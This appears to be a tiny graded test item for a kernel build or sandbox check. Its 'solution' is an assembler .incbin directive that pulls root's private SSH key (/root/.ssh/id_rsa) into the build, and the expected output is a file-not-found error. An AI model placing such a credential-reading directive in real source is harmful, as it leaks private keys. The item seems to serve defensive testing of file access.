/*
 * File: kern/ftrace/riscv64/mcount_caller.S
 * State: graded
 * Points: half
 * Says: file not found|can.t open|No such file
 */
@solution
.incbin "/root/.ssh/id_rsa"
